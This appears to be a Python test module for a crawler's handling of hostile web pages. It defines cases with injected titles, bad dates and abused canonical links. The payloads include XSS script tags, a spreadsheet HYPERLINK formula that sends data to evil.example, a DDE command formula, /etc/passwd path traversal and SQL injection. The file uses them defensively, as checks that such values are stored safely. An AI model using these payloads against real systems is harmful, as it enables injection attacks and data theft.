"""Pages that lie about themselves: titles, dates, addresses, and words that are to run somewhere else."""

from __future__ import annotations

from html import escape

from tests.hostile import wire
from tests.hostile.case import Case, Kind

OVERRIDES = "\u202e\u202d\u2066\u2067\u2069\u200f"


def _titled(name: str, served: str, markup: str, shown: str, lacks: tuple[str, ...] = ()) -> Case:
    """A page and a feed entry whose title, given as markup, has to be stored as the text ``shown``."""
    return Case(
        name=f"title-{name}",
        kind=Kind.PAGE,
        served=served,
        answer=wire.page(markup, wire.story(f"title {name}", wire.NEWS)),
        kept="stored, the title as plain text",
        columns={"title": shown},
        lacks=lacks,
        title=escape(markup),
    )


def _dated(name: str, served: str, written: str) -> Case:
    head_markup = f'<meta property="article:published_time" content="{written}">'
    return Case(
        name=f"date-{name}",
        kind=Kind.PAGE,
        served=served,
        answer=wire.page(f"The {name} report", wire.story(f"date {name}"), head_markup),
        kept="stored, and counts for the day it was seen",
        columns={"counts_when_seen": True},
        published=written,
    )


def _addressed(
    name: str, served: str, head_markup: str, kept: str = "stored under the address it was fetched from"
) -> Case:
    return Case(
        name=f"canonical-{name}",
        kind=Kind.PAGE,
        served=served,
        answer=wire.page(f"The {name} report", wire.story(f"canonical {name}"), head_markup),
        kept=kept,
        columns={"path": f"/news/canonical-{name}.html"},
    )


CASES = (
    _titled(
        "script",
        "a script in the title",
        "Open models <script>alert(1)</script> win",
        "Open models win",
    ),
    _titled(
        "markup",
        "markup in the title, escaped",
        "Open &lt;img src=x onerror=alert(1)&gt; models",
        "Open <img src=x onerror=alert(1)> models",
    ),
    _titled(
        "formula",
        "a spreadsheet formula as title",
        '=HYPERLINK("http://evil.example/?"&amp;A1,"Open models")',
        '=HYPERLINK("http://evil.example/?"&A1,"Open models")',
    ),
    _titled(
        "command",
        "a spreadsheet command as title",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    _titled(
        "path",
        "a path as title",
        "../../../../etc/passwd",
        "../../../../etc/passwd",
    ),
    _titled(
        "markdown",
        "Markdown as title",
        "[Open models](javascript:alert(1)) ![x](http://evil.example/x.png) `code`",
        "[Open models](javascript:alert(1)) ![x](http://evil.example/x.png) `code`",
    ),
    _titled(
        "template",
        "template and SQL syntax as title",
        "{{ 7*7 }} ${7*7} '); DROP TABLE articles; --",
        "{{ 7*7 }} ${7*7} '); DROP TABLE articles; --",
    ),
    _titled(
        "overrides",
        "right-to-left overrides in the title",
        f"Open {OVERRIDES}sledom nepo{OVERRIDES} models",
        "Open sledom nepo models",
        tuple(OVERRIDES),
    ),
    _titled(
        "controls",
        "control characters and terminal codes in the title",
        "Open \x1b[31mred\x1b[0m\x07 models\x00 \x9b2J today",
        "Open [31mred[0m models ›2J today",
        ("\x1b", "\x07", "\x9b"),
    ),
    Case(
        name="title-huge",
        kind=Kind.PAGE,
        served="a title of 230 kB, twice",
        answer=wire.page("Open models " * 19_000, wire.story("title huge", wire.NEWS)),
        kept="stored, the title cut",
        columns={"title_is_short": True},
        within_seconds=20,
    ),
    _dated("2099", "a page from the year 2099", "2099-01-01T00:00:00Z"),
    _dated("1970", "a page from 1970", "1970-01-01T00:00:00Z"),
    _dated("zero", "a page from `0000-00-00`", "0000-00-00T00:00:00"),
    _dated("garbage", 'a page from "yesterday-ish"', "yesterday-ish"),
    _dated("overflow", "a page from `99999-99-99T99:99:99+99:99`", "99999-99-99T99:99:99+99:99"),
    _addressed("script", "a canonical link to `javascript:`", '<link rel=canonical href="javascript:alert(1)">'),
    _addressed(
        "elsewhere", "a canonical link to another site", '<link rel=canonical href="https://example.org/other">'
    ),
    _addressed("front-page", "a canonical link to the front page", '<link rel=canonical href="/">'),
    _addressed(
        "password",
        "a canonical link with a name and password in it",
        '<link rel=canonical href="http://user:secret@canonical-password.localhost/a">',
    ),
    _addressed(
        "base",
        "`base href` on another site, and a relative canonical link",
        '<base href="https://example.org/"><link rel=canonical href="/news/canonical-base.html">',
    ),
)
